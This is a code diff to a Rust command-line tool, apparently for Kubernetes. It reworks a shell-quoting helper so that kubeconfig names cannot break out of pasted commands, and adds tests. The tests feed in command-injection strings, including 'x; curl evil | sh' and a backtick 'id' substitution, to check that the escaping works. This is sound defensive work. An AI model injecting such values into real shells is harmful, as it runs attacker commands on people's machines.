@@ -195,6 +195,20 @@ impl Calling {
     }
 }
 
+/// A word of a command that a hint offers for pasting.
+///
+/// Security: names may be a kubeconfig's. None may end the word and begin a command, nor hold a
+/// placeholder, whose words would end the quotation.
+#[must_use]
+pub fn shell_word(text: &str) -> Cow<'_, str> {
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_./:@%+".contains(&byte);
+    if !text.is_empty() && text.bytes().all(is_plain) {
+        Cow::Borrowed(text)
+    } else {
+        Cow::Owned(format!("'{}'", text.replace('\'', r"'\''").replace('{', "{''")))
+    }
+}
+
 /// Makes somebody else's words safe for a terminal and for one line of a log.
 ///
 /// Security: a server's message, a name in a kubeconfig or a file's content may hold escape
@@ -224,19 +238,6 @@ pub fn printable(text: &str) -> String {
     line
 }
 
-/// A word as a shell takes it, for commands that are there to be pasted.
-///
-/// Security: names in them may be a kubeconfig's or a server's.
-#[must_use]
-pub fn shell_word(text: &str) -> Cow<'_, str> {
-    let is_plain = |character: char| character.is_alphanumeric() || "-_./:@+%".contains(character);
-    if !text.is_empty() && text.chars().all(is_plain) {
-        Cow::Borrowed(text)
-    } else {
-        Cow::Owned(format!("'{}'", text.replace('\'', r"'\''")))
-    }
-}
-
 /// Characters that make text on a terminal read in another order than it is written.
 fn is_direction_override(character: char) -> bool {
     matches!(character, '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
@@ -261,6 +262,17 @@ mod tests {
         assert_eq!(printable("\u{1b}[31mred\u{0}"), "\u{fffd}[31mred\u{fffd}");
         assert_eq!(printable("user\u{202e}gpj"), "user\u{fffd}gpj");
         assert_eq!(printable(&"x".repeat(5_000)).chars().count(), 1_001);
+    }
+
+    #[test]
+    fn a_word_for_the_shell_is_one_word() {
+        assert_eq!(shell_word("kubernetes/prod-1_a.b"), "kubernetes/prod-1_a.b");
+        assert_eq!(shell_word("x; curl evil | sh"), "'x; curl evil | sh'");
+        assert_eq!(shell_word("x'`id`'"), r"'x'\''`id`'\'''");
+        assert_eq!(shell_word("~"), "'~'");
+        assert_eq!(shell_word(""), "''");
+        // A placeholder would be filled with quotes of our own.
+        assert_eq!(shell_word("a{config}"), "'a{''config}'");
     }
 
     #[test]
